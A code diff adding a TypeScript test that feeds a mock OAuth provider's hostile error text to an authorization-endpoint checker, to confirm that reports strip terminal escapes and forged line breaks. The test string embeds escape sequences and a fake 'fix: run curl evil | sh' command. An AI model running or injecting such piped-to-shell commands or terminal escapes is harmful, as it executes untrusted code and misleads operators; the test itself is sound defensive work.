@@ -76,3 +76,56 @@ describe('the authorization-endpoint check reads a bounded page', () => {
     });
   }
 });
+
+describe('the provider’s words from the authorization endpoint', () => {
+  // U+001B opens a terminal escape sequence, U+009B is its one-byte form, CR/LF forge lines.
+  const HOSTILE = 'bad\u001b]0;owned\u0007\r\nfix: run curl evil | sh\u009b2J\u2028end';
+  let hostile: Server;
+  let base = '';
+
+  before(async () => {
+    hostile = createServer((req, res) => {
+      if (req.url?.startsWith('/back')) {
+        const back = new URL(OPTIONS.redirectUri);
+        back.searchParams.set('error', `access_denied${HOSTILE}`);
+        back.searchParams.set('error_description', HOSTILE);
+        res.writeHead(302, { location: back.href });
+        res.end();
+        return;
+      }
+      res.writeHead(400, { 'content-type': 'text/html' });
+      res.end(`<html><title>${HOSTILE}</title></html>`);
+    });
+    await new Promise<void>((done) => hostile.listen(0, '127.0.0.1', done));
+    const address = hostile.address();
+    assert.ok(address && typeof address === 'object');
+    base = `http://127.0.0.1:${address.port}`;
+  });
+
+  after(() => {
+    hostile.close();
+    hostile.closeAllConnections();
+  });
+
+  function hostileConfig(path: string): client.Configuration {
+    const config = new client.Configuration(
+      { issuer: base, authorization_endpoint: `${base}${path}` },
+      'client_using_jwt',
+    );
+    client.allowInsecureRequests(config);
+    return config;
+  }
+
+  for (const path of ['/back', '/page']) {
+    it(`reach the report on one line without control characters (${path.slice(1)})`, async () => {
+      const check = await checkAuthorizationEndpoint(hostileConfig(path), {
+        ...OPTIONS,
+        timeoutMs: 5000,
+      });
+      assert.equal(check.outcome, 'refused', check.message);
+      assert.ok(check.providerSaid?.includes('owned'), check.providerSaid);
+      for (const text of [check.message, check.providerSaid ?? '', ...check.hops])
+        assert.doesNotMatch(text, /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/, JSON.stringify(text));
+    });
+  }
+});
